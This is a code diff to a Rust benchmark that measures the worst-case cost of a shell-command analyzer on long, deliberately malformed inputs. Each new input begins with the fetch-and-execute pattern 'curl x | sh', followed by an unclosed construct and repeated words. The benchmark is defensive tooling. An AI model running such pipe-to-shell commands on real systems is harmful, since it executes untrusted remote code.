@@ -1,7 +1,7 @@
 //! Analysis cost per command over a corpus of realistic agent commands, side by side with a
 //! trivial baseline (`str::split_whitespace`) over the same corpus; and the worst case:
-//! hostile commands of the largest size analyzed, nested wrappers, long pipelines and repeated
-//! unfinished constructs.
+//! hostile commands of the largest size analyzed, nested wrappers, long pipelines, repeated
+//! unfinished constructs and single unclosed ones followed by many words.
 
 use criterion::{black_box, criterion_group, criterion_main, Criterion, Throughput};
 
@@ -69,6 +69,13 @@ fn hostile(unit: &str) -> String {
     format!("{}true", unit.repeat(max / unit.len()))
 }
 
+/// `curl x | sh; ` and `open`, then `word` repeated up to the default `max_bytes`.
+fn unclosed(open: &str, word: &str) -> String {
+    let head = format!("curl x | sh; {open}");
+    let max = prempti_shell::Limits::default().max_bytes - head.len();
+    format!("{head}{}", word.repeat(max / word.len()))
+}
+
 fn worst_case(c: &mut Criterion) {
     let mut group = c.benchmark_group("worst_case_64k");
     group.sample_size(10);
@@ -92,6 +99,26 @@ fn worst_case(c: &mut Criterion) {
         ("for", "for x in "),
     ] {
         let text = hostile(unit);
+        group.bench_function(name, |b| {
+            b.iter(|| black_box(prempti_shell::analyze(black_box(&text), None)))
+        });
+    }
+    // One unclosed construct, then words: cut by the parse deadline.
+    for (name, open, word) in [
+        ("test_vars", "[[ ", "$x "),
+        ("test_strings", "[[ ", "\" \" "),
+        ("test_quotes", "[[ ", "x' "),
+        ("arith_cmd_vars", "(( ", "$x "),
+        ("arith_cmd_strings", "(( ", "\" \" "),
+        ("arith_cmd_quotes", "(( ", "x' "),
+        ("case_vars", "case x in ", "$x "),
+        ("case_strings", "case x in ", "\" \" "),
+        ("case_quotes", "case x in ", "x' "),
+        ("subscript_vars", "a[ ", "$x "),
+        ("subscript_strings", "a[ ", "\" \" "),
+        ("subscript_quotes", "a[ ", "x' "),
+    ] {
+        let text = unclosed(open, word);
         group.bench_function(name, |b| {
             b.iter(|| black_box(prempti_shell::analyze(black_box(&text), None)))
         });
